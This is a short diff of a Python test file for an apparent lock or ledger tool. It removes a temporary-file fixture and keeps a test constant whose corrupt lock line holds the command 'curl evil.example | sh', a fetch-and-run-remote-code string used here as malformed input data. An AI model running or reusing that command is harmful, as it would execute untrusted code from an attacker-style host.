@@ -34,13 +34,6 @@ def paths(tmp_path: Path) -> LedgerPaths:
     return ledger_paths(folder / "film.yaml")
 
 
-@pytest.fixture
-def precious(tmp_path: Path) -> Path:
-    path = tmp_path / "precious"
-    path.write_text("mine")
-    return path
-
-
 # What a lock's bad line says is whatever its author wished.
 BAD_LOCK = lock_header("l", 1, 1) + lock_line(submitted("a")) + b'{"curl evil.example | sh\n'
 
